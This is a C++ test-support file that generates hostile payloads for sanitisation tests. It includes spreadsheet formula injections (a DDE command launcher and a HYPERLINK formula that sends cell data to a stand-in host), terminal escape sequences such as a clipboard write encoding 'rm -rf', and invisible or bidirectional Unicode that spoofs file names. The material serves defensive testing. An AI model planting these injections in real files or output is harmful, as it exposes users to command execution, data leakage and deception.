#include "tests/support/hostile_payloads.h"

#include "core/base/text.h"

namespace inodeck::test {

namespace {

using Texts = std::vector<std::string>;

/// Each pattern with each special text put in the place of its "?".
void add(Texts& payloads, const Texts& patterns, const Texts& specials) {
    for (const std::string& special : specials)
        for (std::string text : patterns) {
            for (std::size_t at = text.find('?'); at != std::string::npos;
                 at = text.find('?', at + special.size()))
                text.replace(at, 1, special);
            payloads.push_back(std::move(text));
        }
}

} // namespace

const std::vector<std::string>& hostilePayloads() {
    static const Texts all = [] {
        Texts list;
        add(list,
            {"?1+1", "?cmd|' /C calc'!A0", "?HYPERLINK(\"http://x/\"&A1,\"ok\")", "?SUM(1,2);\"\r\n=2",
             " ?1"},
            {"=", "+", "-", "@", "\t=", "\r=", "\n=", "\"=", "＝", "＋", "－", "＠"});
        add(list, {"edge?", "?m web", "new\n?log"},
            {"\x1b[2J",
             "\x1b[31;5m",
             "\x1b]0;title\a",
             "\x1b]52;c;cm0gLXJm\a",
             "\x1b]8;;http://x\x1b\\ok",
             "\x1bPq#0\x1b\\",
             "\x1b[6n",
             "\x1b[?1049h",
             "\x1b[1A\x1b[2K",
             "\x1b"
             "c",
             "\x9b"
             "2J",
             "\xc2\x9b"
             "2J",
             "\xc2\x9d"
             "0;x\xc2\x9c",
             "\x90q\x9c",
             "\a",
             "\b\b\b",
             "\x7f",
             "\r",
             "\v",
             "\f",
             "\x0e",
             "\x0f",
             "\x05",
             std::string(1, '\0'),
             "\xff\xfe",
             "\xc3\x28",
             "\xed\xa0\x80",
             "\xf4\x90\x80\x80",
             "\\x1b[2J",
             "\x1b[999;999H"});
        Texts hiding;
        for (const char* c : {"\u061c", "\u200b", "\u200c",     "\u200d",     "\u200e", "\u200f", "\u2028",
                              "\u2029", "\u202a", "\u202b",     "\u202c",     "\u202d", "\u202e", "\u2060",
                              "\u2066", "\u2067", "\u2068",     "\u2069",     "\u206a", "\u206f", "\ufeff",
                              "\u00ad", "\u180e", "\U000e0001", "\U000e0041", "\ufff9"})
            hiding.emplace_back(c);
        add(list, {"edge?txt.exe", "?web", "ok? \"verified\""}, hiding);
        return list;
    }();
    return all;
}

std::string harmIn(const std::string& text) {
    for (std::size_t at = 0; at < text.size();) {
        const std::size_t end = std::min(text.find_first_of("\r\n", at), text.size());
        std::string line = text.substr(at, end - at);
        if (line.starts_with("\x1b[K"))
            line.erase(0, 3); // our own progress is wiped; no payload has this
        std::string undone = printable(line);
        for (std::size_t i = 0; (i = undone.find("\\\\", i)) != std::string::npos; ++i)
            undone.erase(i, 1);
        if (undone != line)
            return undone;
        at = end + 1;
    }
    return {};
}

} // namespace inodeck::test
